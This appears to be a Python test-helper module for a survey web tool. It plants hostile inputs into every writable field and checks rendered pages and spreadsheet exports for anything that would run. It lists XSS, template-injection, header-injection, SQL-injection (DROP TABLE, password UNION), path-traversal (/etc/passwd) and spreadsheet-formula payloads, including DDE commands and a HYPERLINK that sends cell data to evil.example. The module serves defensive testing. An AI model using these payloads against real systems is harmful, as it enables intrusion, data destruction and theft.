"""What hostile people write; planting it wherever words can stand; and readers that notice what would run."""

import csv
import datetime
import io
import uuid
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from typing import Any

import openpyxl
from PIL import Image
from sqlalchemy import select

from surveytool import collections, entries, intake, judge, links, scans, sharing, workshops
from surveytool.entries import About
from surveytool.models import Attachment, Collection, Entry, Response, SetAside, User, db
from surveytool.reporting import Settings, frozen
from surveytool.sharing import Draft

#: What would run in an evaluator's browser if it were not escaped; each marks the window it runs in.
SCRIPTS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    '"><svg onload=window.pwned=1>',
    "' autofocus onfocus=window.pwned=1 x='",
    "</textarea><script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href=javascript:window.pwned=1>here</a>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "<!--<script>window.pwned=1//-->",
    "\u202e<script>window.pwned=1</script>",
)
#: What a spreadsheet would compute, fetch or start.
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"read")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "'=1+1",
    "\uff1d1+1",
    '=DDE("cmd";"/C calc";"__DdeLink")',
    '"\n=1+1',
    "<script>window.pwned=1</script>",
)
LINES = ("a\r\nSet-Cookie: evil=1", "a\nLocation: https://evil.example", "a\u2028b", "a%0d%0aX-Evil: 1", "a\x85b\x0bc")
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE responses; --",
    "1 UNION SELECT password FROM users",
    "demo' AND (SELECT 1 FROM users WHERE 1=1)--",
    "%' OR 1=1 OR '%'='",
    "1); DELETE FROM audit_log; --",
    "\\'; SELECT pg_sleep(10); --",
    "demo\x00' OR 1=1",
)
PATHS = (
    "../../secrets.json",
    "..%2f..%2fsecrets.json",
    "%2e%2e/%2e%2e/surveytool.db",
    "....//....//etc/passwd",
    "/etc/passwd",
    "..\\..\\secrets.json",
    "fonts/../../settings.py",
    "static/../app.py%00.css",
)
#: Who types paper on the filled instance.
CLERK, TRAINER = "clerk@example.org", "trainer@example.org"


# A reader of markup -------------------------------------------------------------------------------------------------


class Markup(HTMLParser):
    """Reads a page as a browser does, and collects what could run."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not values.get("src") and values.get("type") != "application/json":
            self.dangers.append(f"<{tag}>")
        self.dangers += [f"{tag} {name}" for name in values if name.startswith("on") or name in ("srcdoc", "style")]
        self.dangers += [f"{tag} {n}" for n, value in attrs if (value or "").strip().lower().startswith("javascript:")]
        if tag in ("iframe", "object", "embed", "base"):
            self.dangers.append(f"<{tag}>")


def dangers(page: str) -> list[str]:
    """Return what could run on a page."""
    found = Markup()
    found.feed(page)
    return found.dangers


# Planting -----------------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Planted:
    """Where one hostile text lies: what addresses need to lead to it."""

    payload: str
    code: str
    #: The form as it came, and its correction, which waits for a decision.
    response_id: int
    correction_id: int
    receipt: str
    #: The form that a clerk has begun, the one that a clerk typed, and scans of both.
    begun: str
    typed: str
    begun_scan: int
    typed_scan: int
    aside_id: int
    share_id: int
    report_id: int
    #: The random word of the share's link.
    token: str
    #: A workshop of the trainer with an account, and whose words these are.
    workshop: str

    def values(self, endpoint: str, response_id: int = 0) -> dict[str, Any]:
        """Return what the arguments of an address are, so that it shows this text."""
        return {
            "code": self.code,
            "join_code": f"join-{self.code}",
            "language": "th",
            "filename": "respond.css",
            "number": "25",
            "report_id": self.report_id,
            "task_id": 1,
            "token": self.token,
            "response_id": response_id or (self.correction_id if "correction" in endpoint else self.response_id),
            "aside_id": self.aside_id,
            "account_id": 1,
            "submission": self.typed if endpoint == "evaluate.kept" else self.begun,
            "attachment_id": self.typed_scan if endpoint == "evaluate.attachment" else self.begun_scan,
            "share_id": self.share_id,
            "edition_asked": "none",
            "organisation_id": 1,
            "judgement_id": 1,
            "name": "cache",
            "workshop": self.workshop,
            "wave": "pre",
            "country": "cambodia",
        }


def sent_by(payload: str, collection: Collection, country: str = "thailand", name: str = "") -> dict[str, list[str]]:
    """Return a form whose every free-text field is the payload, names too unless one is given."""
    assert collection.version is not None
    q = collection.version.questionnaire
    texts = [item for item in q.items.values() if item.type == "text"]
    sent = {item.name: [name if name and item.identity else payload] for item in texts}
    opening = {"trained": "yes", "applying": "no", "research_other": "yes", "evaluated": "yes", "guidelines": "yes"}
    chosen = {name: [value] for name, value in opening.items()}
    return sent | chosen | {"country": [country], "activities": ["prevention", "other"], "conducive": ["yes"]}


def receive(collection: Collection, sent: dict[str, list[str]], **about: Any) -> Response:
    """Take in a form."""
    kept = intake.receive(collection, sent, submission=str(uuid.uuid4()), language="th", **about)
    assert isinstance(kept, intake.Kept)
    return kept.response


def plant(payload: str, number: int, shared: Draft, country: str = "thailand", name: str = "") -> Planted:
    """Make a collection in which a text stands wherever people can write; return where it lies."""
    code = f"hostile-{number}"
    about = {"place": payload, "organiser": payload, "join_code": f"join-{code}"}
    collection = collections.create(code, "partner_survey", payload, **about, who="tester")
    collections.open_(collection, "tester")
    db.session.commit()
    sent = sent_by(payload, collection, country, name)
    first = receive(collection, sent, mode="paper", typed_by=CLERK, serial=payload[:20])
    second = receive(collection, sent, supersedes=first)
    _judge(first, payload)
    begun = _begin(collection, sent, payload[:20])
    scan, other = _attach(payload, entry_id=begun.id), _attach(payload, response_id=first.id)
    share, token = sharing.store(
        Draft(collection, shared.tables, shared.counts, ()), audience=payload, days=9, who=CLERK
    )
    db.session.commit()
    ids = {"response_id": first.id, "correction_id": second.id, "begun_scan": scan.id, "typed_scan": other.id}
    report = frozen.freeze(collection, Settings(), payload, CLERK)
    ids |= {"share_id": share.id, "aside_id": _set_aside(collection, sent), "report_id": report.id}
    return Planted(
        payload,
        code,
        receipt=first.receipt,
        begun=begun.submission,
        typed=first.submission,
        token=token,
        workshop=_workshop(payload, code),
        **ids,
    )


def _workshop(payload: str, code: str) -> str:
    """Make a workshop of a trainer with an account, in which everything that can be written is the payload."""
    trainer = db.session.scalar(select(User).where(User.email == TRAINER))
    own = ({"en": payload[: workshops.OWN_LIMIT]},)
    plan = workshops.Plan(
        payload[:200],
        "cambodia",
        "ngo",
        datetime.date(2026, 5, 4),
        ("en",),
        ("referral",),
        own=own,
        place=payload[:200],
        topic=payload[:200],
    )
    made = workshops.create(plan, "tester", trainer=trainer, code=f"w-{code}")
    workshops.open_wave(made, "pre", "tester")
    workshops.open_wave(made, "post", "tester")
    forms = []
    for wave, linking_code in (("pre", payload[:20]), ("post", payload[:20] + "x")):
        sent = {"card_code": [linking_code], "card_code.confirmed": [linking_code], "referral": ["2"]}
        kept = intake.receive(workshops.waves(made)[wave], sent, submission=f"{code}-{wave}-of-workshop", language="en")
        assert isinstance(kept, intake.Kept)
        forms.append(kept.response.id)
    links.decide(made, *forms, joined=True, who="tester", why=payload)
    db.session.commit()
    return made.code


def _judge(response: Response, payload: str) -> None:
    judge.flag(response, payload, payload)
    judge.exclude_answer(response, "objective", payload, payload)
    judge.withdraw(judge.exclude_form(response, payload, payload), payload, payload)


def _begin(collection: Collection, sent: dict[str, list[str]], serial: str) -> Entry:
    assert collection.version is not None
    begun = entries.begin(collection, CLERK, About("th", "paper", serial=serial))
    entries.save(begun, collection.version.questionnaire, sent, page="a page", since="")
    return begun


def _attach(payload: str, **to: int) -> Attachment:
    (made,) = scans.attached([picture()], 0, payload, **to)
    db.session.flush()
    return made


def _set_aside(collection: Collection, sent: dict[str, list[str]]) -> int:
    """Let a form come while the collection is closed."""
    collections.close(collection, "tester")
    assert isinstance(intake.receive(collection, sent, submission=str(uuid.uuid4()), language="th"), intake.Aside)
    collections.open_(collection, "tester")
    db.session.commit()
    return db.session.scalars(db.select(SetAside.id).where(SetAside.collection_id == collection.id)).one()


def picture() -> bytes:
    """Return a small photo."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "#dde").save(out, "PNG")
    return out.getvalue()


# Reading what was taken away ------------------------------------------------------------------------------------------


def cells_of(body: bytes) -> list[tuple[str, bool]]:
    """Return every cell of a workbook or of a ZIP of CSV files as text, and whether a spreadsheet would compute it."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        tables = [archive.read(name).decode("utf-8-sig") for name in archive.namelist() if name.endswith(".csv")]
    if tables:
        rows = [row for text in tables for row in csv.reader(io.StringIO(text, newline=""))]
        return [(cell, computed(cell)) for row in rows for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    return [(str(cell.value), cell.data_type == "f" or bool(cell.hyperlink)) for cell in cells]


def computed(cell: str) -> bool:
    """Say whether a spreadsheet that opens a CSV file would compute a cell; spaces before a sign are passed over."""
    start = cell.strip(" \t\r\n\u00a0\u3000")[:1]
    return start in tuple("=+-@\uff1d\uff0b\uff0d\uff20") and not _is_number(cell)


def _is_number(cell: str) -> bool:
    try:
        float(cell.strip().rstrip("%").replace(",", "."))
    except ValueError:
        return False
    return True
